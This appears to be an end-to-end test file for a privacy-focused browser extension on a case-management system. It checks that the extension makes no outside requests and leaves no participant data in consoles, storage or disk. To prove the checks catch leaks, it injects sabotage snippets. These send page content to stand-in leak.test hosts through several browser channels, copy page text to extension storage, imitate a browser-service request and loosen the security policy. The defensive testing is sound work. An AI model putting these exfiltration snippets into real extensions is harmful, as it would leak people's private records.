/**
 * Nothing leaves the browser (`trust.md` P01), and nothing about a participant stays behind in it (P02, P06, P10). Every request of a working day goes through a proxy that writes it down,
 * and is compared with the same day without the overlay: not one host more, not one request more.
 */
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { startPracticeTracs } from '../practice/server.ts';
import type { SeenRequest } from '../tools/proxy.ts';
import { LAYOUTS } from '../tools/screens.ts';
import { count, figure } from '../trust/figure.ts';
import { expect, type Lab, openPopup, openRecord, test } from './lab.ts';
import { residue } from './residue.ts';
import { append, connect, instead, manifest, misbehave, misdeeds, withOwnLab } from './sabotage.ts';
import { exerciseOverlay } from './scenario.ts';

/** Hosts besides TRACS that the browser may be seen to ask: none, and a new one shows up in review. */
const ALLOWED = readFileSync('test/e2e/allowed-hosts.txt', 'utf8').split('\n').filter(Boolean);

/** Services that Chromium itself asks, with or without an extension: told apart by who asks, below. */
const BROWSER_SERVICES = /(^|\.)(google|googleapis|gvt1|gstatic)\.com$/;

/** What went out of a browser: as the proxy saw it, and as pages, frames and workers asked for it. */
interface Traffic {
  seen: SeenRequest[];
  asked: string[];
  /** What stood in consoles, errors included. */
  logged: string[];
  /** What the page's own storage holds in the end. */
  left: unknown;
}

/** What is wrong with this traffic, in words. */
function complaints({ seen, asked }: Pick<Traffic, 'seen' | 'asked'>, origin: string): string[] {
  const tracs = new URL(origin);
  const strange = (host: string, port: number) =>
    !((host === tracs.hostname && port === Number(tracs.port)) || ALLOWED.includes(host));
  return [
    ...seen.flatMap(({ host, port, method, path, headers }) => {
      const ownService = method === 'CONNECT' && BROWSER_SERVICES.test(host);
      const said = strange(host, port) && !ownService ? [`${method} to ${host}`] : [];
      for (const name of ['origin', 'referer'] as const)
        if (headers[name]?.includes('extension://')) said.push(`${method} ${host}${path} by the extension`);
      return said;
    }),
    // Requests of the browser's own services are asked for by no page or worker; all others are.
    ...asked.flatMap((address) => {
      const { protocol, hostname, port } = new URL(address);
      if (!/^(https?|wss?):$/.test(protocol)) return [];
      return strange(hostname, Number(port || 80)) ? [`a page or worker asks ${hostname}`] : [];
    }),
  ];
}

/** Begins to write down what goes out of a browser, anew. */
function listen(lab: Lab): Traffic {
  const traffic: Traffic = { seen: lab.proxy.seen, asked: [], logged: [], left: null };
  lab.proxy.seen.length = 0;
  lab.context.on('request', (request) => traffic.asked.push(request.url()));
  lab.context.on('console', (message) => traffic.logged.push(message.text()));
  lab.context.on('weberror', (error) => traffic.logged.push(String(error.error().stack)));
  lab.background.on('console', (message) => traffic.logged.push(message.text()));
  return traffic;
}

/** Each request to TRACS as one line, in a fixed order; the browser asks for a page's icon when it likes to. */
function lines(seen: readonly SeenRequest[]): string[] {
  const all = seen
    .filter(({ method, path }) => method !== 'CONNECT' && path !== '/favicon.ico')
    .map(({ host, method, path, headers }) => {
      const kind = `${headers['sec-fetch-mode'] ?? ''} ${headers['sec-fetch-dest'] ?? ''}`;
      return `${method} ${host}${path} ${kind}`;
    });
  // How often the page's own scripts are asked for anew is the browser cache's affair; that they are counts once.
  const own = all.filter((line) => line.includes('/app/assets/'));
  return [...all.filter((line) => !own.includes(line)), ...new Set(own)].sort();
}

/**
 * A day: log in, read records, write a narrative, add a step, look at every page, time out, log in again, log out. With
 * `overlay` everything that it offers is used in between.
 */
async function workADay(lab: Lab, overlay: boolean): Promise<Traffic> {
  const { tracs, context } = lab;
  tracs.store.reset();
  const traffic = listen(lab);
  const record = await openRecord(lab, 'first-light');
  const { page, work, marks, draft, step } = record;
  // A page that is left before all of it has come asks for less than the same page on another day.
  const allHere = () => page.waitForLoadState('load');
  if (overlay) await exerciseOverlay(lab, record);
  await draft.choose('Engagement');
  await draft.text.fill('LVM for ct about the life skills class she missed.');
  await draft.save();
  await allHere();
  await record.filter('JOBS');
  await allHere();
  await record.open('PDP');
  if (overlay) await expect(marks).toHaveCount(1);
  await step.add();
  await step.fill({ code: 'RE', start: '2027-01-05' });
  await step.save();
  await work.getByText('Step added.').waitFor();
  await record.open('Re-Engagement');
  await record.open('Narratives');
  const second = await openRecord(lab, 'notice-too-late');
  if (overlay) {
    await expect(second.marks).not.toHaveCount(0);
    for (const name of ['popup', 'sidepanel', 'options']) await lookAt(lab, name);
  }
  await second.page.close();
  await page.bringToFront();
  tracs.store.expireSessions();
  await record.follow('PDP');
  await work.getByRole('heading', { name: 'Your session has ended' }).waitFor();
  await allHere();
  if (overlay) {
    const popup = await openPopup(lab, page);
    await popup.locator('[data-state=signed-out]').waitFor();
    await popup.close();
  }
  await context.clearCookies();
  await openRecord(lab, 'first-light', { page });
  const left = await page.evaluate(leftIn);
  await record.follow('Log out');
  await page.getByRole('heading', { name: 'You have logged out' }).waitFor();
  await allHere();
  return { ...traffic, seen: [...traffic.seen], asked: [...traffic.asked], left };
}

/** Everything but the extension's own storage in which a page could keep something. */
async function leftIn() {
  return {
    local: Object.keys(localStorage),
    session: Object.keys(sessionStorage),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    cookies: document.cookie
      .split('; ')
      .map((cookie) => cookie.split('=')[0])
      .sort(),
  };
}

/** Names and narrative words of the participants of that day. */
function wordsOfTheDay({ tracs }: Pick<Lab, 'tracs'>): string[] {
  return tracs.store
    .list()
    .filter(({ slug }) => ['first-light', 'notice-too-late'].includes(slug))
    .flatMap(({ name, caseNumber, narratives }) => [
      `${name.last}, ${name.first}`,
      caseNumber,
      ...narratives.map(({ text }) => text.slice(0, 40)),
    ]);
}

/** One of the extension's own pages, in a tab. */
async function lookAt(lab: Lab, name: string): Promise<void> {
  const page = await lab.context.newPage();
  await page.goto(`chrome-extension://${lab.extensionId}/${name}.html`);
  await page.getByRole('heading', { level: 1 }).waitFor();
  await page.close();
}

/** Ways to send something, each to a host that nobody may ask. */
const LEAKS: Record<string, string> = {
  'fetch.leak.test': "fetch('http://fetch.leak.test/', { mode: 'no-cors' }).catch(() => {})",
  'image.leak.test': "new Image().src = 'http://image.leak.test/pixel.gif'",
  'beacon.leak.test': "navigator.sendBeacon('http://beacon.leak.test/', 'facts')",
  'xhr.leak.test': "const ask = new XMLHttpRequest(); ask.open('GET', 'http://xhr.leak.test/'); ask.send()",
  'socket.leak.test': "new WebSocket('ws://socket.leak.test/')",
  'script.leak.test':
    "const tag = document.createElement('script'); tag.src = 'http://script.leak.test/x.js'; document.documentElement.append(tag)",
  'hint.leak.test':
    "const tag = document.createElement('link'); tag.rel = 'stylesheet'; tag.href = 'http://hint.leak.test/x.css'; document.documentElement.append(tag)",
};
const AS_THE_BROWSER = "fetch('https://update.googleapis.com/leak', { mode: 'no-cors' }).catch(() => {})";
const TO_DISK =
  "chrome.storage.local.set({ leak: document.title + [...document.querySelectorAll('frame')].map((frame) => frame.contentDocument.body.textContent).join() + document.body?.textContent })";
const TO_CONSOLE = "console.warn(document.title, 'zqxcanary')";
const TO_TRACS = "fetch('/leak').catch(() => {})";

test('P01, P02, P06, P10 a day with the overlay asks for nothing, leaves nothing and tells nothing that the same day without it does not', async ({
  layout,
}) => {
  test.setTimeout(120_000);
  expect(ALLOWED, 'allowed-hosts.txt').toEqual([]);
  const tracs = await startPracticeTracs();
  const origin = LAYOUTS[layout].origin(tracs);
  try {
    let without: Traffic = { seen: [], asked: [], logged: [], left: null };
    const words = wordsOfTheDay({ tracs });
    expect(words.length).toBeGreaterThan(8);
    const onDisk: Record<string, string[]> = {};
    const afterwards = (name: string) => (profile: string) => {
      onDisk[name] = residue(profile, words);
    };
    await withOwnLab(
      { layout, tracs, changes: { 'launcher.js': instead('') }, afterwards: afterwards('without') },
      async (lab) => {
        await connect(lab);
        without = await workADay(lab, false);
      },
    );
    expect(complaints(without, origin), 'the browser itself, without the overlay').toEqual([]);
    expect(without.seen.length).toBeGreaterThan(40);

    // On purpose: a launcher that sends, in every way there is, to strangers and to TRACS itself.
    const code = {
      ...LEAKS,
      'to TRACS': TO_TRACS,
      'like the browser': AS_THE_BROWSER,
      'to the disk': TO_DISK,
      'to the console': TO_CONSOLE,
    };
    const sabotage = {
      layout,
      tracs,
      changes: { 'launcher.js': misdeeds(code) },
      afterwards: afterwards('sabotaged'),
    };
    await withOwnLab(sabotage, async (lab) => {
      await connect(lab);
      const traffic = listen(lab);
      const record = await openRecord(lab, 'first-light');
      for (const host of Object.keys(LEAKS)) {
        await misbehave(lab, record.page, host);
        await expect
          .poll(() => complaints(traffic, origin), host)
          .toContainEqual(expect.stringContaining(host));
      }
      await misbehave(lab, record.page, 'like the browser');
      await expect
        .poll(() => complaints(traffic, origin))
        .toContain('a page or worker asks update.googleapis.com');
      await misbehave(lab, record.page, 'to the console');
      await expect.poll(() => traffic.logged.join()).toContain('zqxcanary');
      await misbehave(lab, record.page, 'to the disk');
      const before = lines(traffic.seen).length;
      await misbehave(lab, record.page, 'to TRACS');
      await expect.poll(() => lines(traffic.seen).length).toBe(before + 1);
    });

    expect(onDisk.sabotaged, 'a copy that writes a page to the disk').toContain(
      'Default/Local Extension Settings',
    );

    await withOwnLab({ layout, tracs, afterwards: afterwards('with') }, async (lab) => {
      await connect(lab);
      const served = tracs.requests.length;
      const { seen, asked, logged, left } = await workADay(lab, true);
      expect(complaints({ seen, asked }, origin)).toEqual([]);
      expect(lines(seen)).toEqual(lines(without.seen));
      // Nothing reached TRACS past the proxy, and nothing came from another place than its own pages.
      const arrived = tracs.requests.slice(served);
      // One by one: what a page asked for and gave up on leaving passed the proxy and need not have arrived.
      const through = seen.map(({ method, path }) => `${method} ${path.split('?')[0]}`);
      const past = arrived.filter(({ method, path }) => {
        const at = through.indexOf(`${method} ${path}`);
        if (at >= 0) through.splice(at, 1);
        return at < 0;
      });
      expect(arrived.length).toBeGreaterThan(40);
      expect(past).toEqual([]);
      expect(arrived.filter((request) => request.origin && request.origin !== origin)).toEqual([]);
      expect(
        arrived.filter(({ secFetchSite }) => !['none', 'same-origin', undefined].includes(secFetchSite)),
      ).toEqual([]);
      // P06: no console and no error holds a word of anybody's.
      expect(words.filter((word) => logged.join('\n').includes(word))).toEqual([]);
      // P10: the page's own storage is as without the overlay, and the extension has none but its storage areas.
      expect(left).toEqual(without.left);
      const options = await lab.context.newPage();
      await options.goto(`chrome-extension://${lab.extensionId}/options.html`);
      expect(await options.evaluate(leftIn)).toEqual({
        local: [],
        session: [],
        databases: [],
        cookies: [''],
      });
      expect(await options.evaluate(() => caches.keys())).toEqual([]);
      await options.close();
      figure('P01', `${count(seen.length)} requests in a day, each of them TRACS's own; 0 by the extension`);
      figure('P06', `${count(logged.length)} lines in consoles, 0 with a word of a participant's`);
      figure('P10', 'page storage, IndexedDB, cookies and caches as on the same day without the overlay');
    });
    // P02: what the browser itself keeps of pages it keeps without the overlay too; nothing beside that.
    expect(onDisk.with!.filter((place) => !onDisk.without!.includes(place))).toEqual([]);
    figure(
      'P02',
      `${words.length} words searched in all files of the profile: with the overlay in ${onDisk.with!.join(', ') || 'none'}; without it in ${onDisk.without!.join(', ') || 'none'}`,
    );
  } finally {
    await tracs.close();
  }
});

test.describe("P01 the extension's own pages and its background", () => {
  const LOOSE =
    "default-src *; script-src 'self'; connect-src * http: ws:; img-src * http:; style-src * 'unsafe-inline'";
  const loosened = manifest((data) => {
    data.content_security_policy = { extension_pages: LOOSE };
    data.host_permissions = ['<all_urls>'];
  });
  const TELL = `self.addEventListener('securitypolicyviolation', (event) => {
    (self.violations ??= []).push(event.effectiveDirective + ' ' + event.blockedURI);
  });`;
  const IN_WORKER = `${TELL} self.leak = () => { ${LEAKS['fetch.leak.test']} };`;
  const PAGES = ['popup', 'sidepanel', 'options'];

  type Leaking = typeof globalThis & { leak(): void; violations?: string[] };

  /** What of the code of a page can send: all but the one that needs the DOM of a web page. */
  const IN_PAGE = Object.entries(LEAKS).filter(([host]) => host !== 'beacon.leak.test');

  async function sendFrom(page: Page, code: string): Promise<void> {
    // Over the debugging protocol, which no policy of the page stops; what it sends is another matter.
    const session = await page.context().newCDPSession(page);
    await session.send('Runtime.evaluate', { expression: `{ ${code} }` });
    await session.detach();
  }

  const leaked = (lab: Lab) =>
    lab.proxy.seen.map(({ host }) => host).filter((host) => /leak\.test$/.test(host));

  test('P01 a policy without connections stops even a sabotaged page or background', {
    tag: '@once',
  }, async () => {
    test.setTimeout(90_000);
    const sabotage = { 'background.js': append(IN_WORKER) };

    // On purpose: with a loosened policy each of these does send.
    await withOwnLab({ changes: { ...sabotage, 'manifest.json': loosened } }, async (lab) => {
      await lab.background.evaluate(() => (globalThis as Leaking).leak());
      await expect.poll(() => leaked(lab)).toContain('fetch.leak.test');
      for (const name of PAGES) {
        lab.proxy.seen.length = 0;
        const page = await lab.context.newPage();
        await page.goto(`chrome-extension://${lab.extensionId}/${name}.html`);
        for (const [host, code] of IN_PAGE.filter(([host]) => host !== 'script.leak.test')) {
          await sendFrom(page, code);
          await expect.poll(() => leaked(lab), `${name}: ${host}`).toContain(host);
        }
        await page.close();
      }
    });

    await withOwnLab({ changes: sabotage }, async (lab) => {
      await lab.background.evaluate(() => (globalThis as Leaking).leak());
      await expect
        .poll(() => lab.background.evaluate(() => (globalThis as Leaking).violations))
        .toEqual(['connect-src http://fetch.leak.test/']);
      for (const name of PAGES) {
        const page = await lab.context.newPage();
        await page.goto(`chrome-extension://${lab.extensionId}/${name}.html`);
        await sendFrom(page, TELL);
        for (const [, code] of IN_PAGE) await sendFrom(page, code);
        // Each attempt is told as a violation, so each was made.
        for (const [host] of IN_PAGE)
          await expect
            .poll(() => page.evaluate(() => (globalThis as Leaking).violations), name)
            .toContainEqual(expect.stringContaining(host));
        await page.close();
      }
      expect(leaked(lab)).toEqual([]);
    });
  });
});
